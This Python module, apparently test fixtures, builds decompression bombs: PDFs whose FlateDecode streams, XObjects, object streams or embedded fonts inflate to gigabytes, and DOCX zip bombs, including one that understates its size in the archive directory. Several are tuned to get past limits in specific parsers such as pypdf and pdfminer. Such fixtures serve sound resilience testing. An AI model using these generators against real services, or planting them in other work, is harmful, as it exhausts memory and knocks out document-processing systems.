"""Hostile files built in memory: DOCX zip bombs and PDFs whose FlateDecode streams inflate to GBs.

Deflate output for a long run of one byte is built from one full-flushed segment repeated, so a
1 GiB bomb costs about a megabyte and a second to make, not a minute of compressing.
"""

from __future__ import annotations

import struct
import zlib

MIB = 1 << 20


def deflate_bomb(inflated_bytes: int, fill: bytes = b" ") -> bytes:
    """A zlib stream that inflates to ``inflated_bytes`` copies of ``fill`` (a multiple of 1 MiB)."""
    chunk = fill * (MIB // len(fill))
    count = max(1, inflated_bytes // MIB)
    comp = zlib.compressobj(9)
    first = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    repeat = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(count):
        checksum = zlib.adler32(chunk, checksum)
    # after a full flush the next block starts byte-aligned: 0x03 0x00 is an empty final fixed block
    return first + repeat * (count - 1) + b"\x03\x00" + checksum.to_bytes(4, "big")


def build_pdf(objects: list[bytes], *, root: int = 1, broken_xref: bool = False) -> bytes:
    """A PDF with ``objects`` numbered from 1 and a cross-reference table (correct unless
    ``broken_xref``, which points ``startxref`` at nothing so readers rebuild it by scanning)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    start = 1 if broken_xref else xref
    out += f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def _stream(dictionary: str, data: bytes) -> bytes:
    return f"<< {dictionary} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"


def _page_objects(content_ref: int) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents {content_ref} 0 R "
        "/Resources << /Font << /F1 4 0 R >> >> >>".encode(),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf_content_bomb(inflated_bytes: int = 1 << 30) -> bytes:
    """A one-page PDF whose page content stream inflates to ``inflated_bytes``."""
    bomb = deflate_bomb(inflated_bytes)
    return build_pdf([*_page_objects(5), _stream("/Filter /FlateDecode", bomb)])


def pdf_content_array_bomb(stream_bytes: int = 64 << 20, repeats: int = 32) -> bytes:
    """A one-page PDF whose /Contents array names one stream (each under pypdf's per-stream cap)
    ``repeats`` times, so the page's content inflates to ``stream_bytes * repeats``."""
    bomb = deflate_bomb(stream_bytes)
    refs = " ".join("5 0 R" for _ in range(repeats))
    objects = _page_objects(5)
    objects[2] = objects[2].replace(b"/Contents 5 0 R", f"/Contents [{refs}]".encode())
    return build_pdf([*objects, _stream("/Filter /FlateDecode", bomb)])


def pdf_xobject_bomb(inflated_bytes: int = 1 << 30, *, image: bool = False) -> bytes:
    """A one-page PDF whose small content draws a Form XObject (or an image) inflating to GBs."""
    text = b"BT /F1 12 Tf 72 720 Td (Child A was seen at home.) Tj ET q 100 0 0 100 0 0 cm /X1 Do Q"
    objects = _page_objects(5)
    objects[2] = objects[2].replace(b"/Font << /F1 4 0 R >>", b"/Font << /F1 4 0 R >> /XObject << /X1 6 0 R >>")
    if image:
        side = int((inflated_bytes // 3) ** 0.5)
        kind = f"/Type /XObject /Subtype /Image /Width {side} /Height {side} /ColorSpace /DeviceRGB /BitsPerComponent 8"
    else:
        kind = "/Type /XObject /Subtype /Form /BBox [0 0 1000 1000]"
    drawn = _stream(f"{kind} /Filter /FlateDecode", deflate_bomb(inflated_bytes))
    return build_pdf([*objects, _stream("", text), drawn])


def pdf_object_stream_bomb(inflated_bytes: int = 1 << 30, *, broken_xref: bool = True) -> bytes:
    """A PDF whose page content is fine but which carries an object stream inflating to GBs.

    With ``broken_xref`` (default) a reader must rebuild the cross-reference table by scanning,
    which is when pdfminer expands every object stream it meets."""
    text = b"BT /F1 12 Tf 72 720 Td (Child A was seen at home.) Tj ET"
    bomb = deflate_bomb(inflated_bytes)
    return build_pdf(
        [
            *_page_objects(5),
            _stream("", text),
            _stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb),
        ],
        broken_xref=broken_xref,
    )


def pdf_font_bomb(inflated_bytes: int = 1 << 30) -> bytes:
    """A PDF whose embedded font program (FontFile2) inflates to GBs."""
    text = b"BT /F1 12 Tf 72 720 Td (Child A was seen at home.) Tj ET"
    bomb = deflate_bomb(inflated_bytes)
    objects = _page_objects(5)
    objects[3] = (
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FirstChar 32 /LastChar 126 "
        b"/FontDescriptor 6 0 R >>"
    )
    return build_pdf(
        [
            *objects,
            _stream("", text),
            b"<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 "
            b"/Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 7 0 R >>",
            _stream("/Filter /FlateDecode", bomb),
        ]
    )


def docx_parts() -> dict[str, bytes]:
    """The parts of a minimal one-paragraph DOCX, by archive name."""
    body = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>Child A was seen at home.</w:t></w:r></w:p></w:body></w:document>"
    )
    return {
        "[Content_Types].xml": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            b'<Default Extension="xml" ContentType="application/xml"/>'
            b'<Override PartName="/word/document.xml" '
            b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            b"</Types>"
        ),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": body.encode(),
    }


def raw_deflate_bomb(inflated_bytes: int, fill: bytes = b"\x00") -> tuple[bytes, int]:
    """Raw deflate data inflating to ``inflated_bytes`` copies of ``fill``, and the CRC-32 of that output."""
    chunk = fill * (MIB // len(fill))
    count = max(1, inflated_bytes // MIB)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    repeat = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    return first + repeat * (count - 1) + b"\x03\x00", crc


def build_zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP archive from already-deflated members ``(name, raw_deflate, crc32, declared_size)``."""
    out = bytearray()
    central = bytearray()
    for name, data, crc, size in members:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0)
        out += encoded + data
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded),
            0, 0, 0, 0, 0, offset,
        )
        central += encoded
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(central), start, 0)
    return bytes(out)


def deflated(data: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of ``data``, its CRC-32 and its size (a member for :func:`build_zip`)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush(), zlib.crc32(data), len(data)


def docx_zip_bomb(
    inflated_bytes: int = 1 << 30, *, member: str = "word/media/bomb.bin", declared: int | None = None
) -> bytes:
    """A small valid DOCX plus ``member`` inflating to ``inflated_bytes``.

    ``declared`` is the size written in the archive directory (default: the true size); a small value
    makes a "lying" bomb that hides its size from checks made on the directory alone.
    """
    parts = docx_parts()
    members = [(name, *deflated(data)) for name, data in parts.items() if name != member]
    bomb, crc = raw_deflate_bomb(inflated_bytes)
    members.append((member, bomb, crc, inflated_bytes if declared is None else declared))
    return build_zip(members)
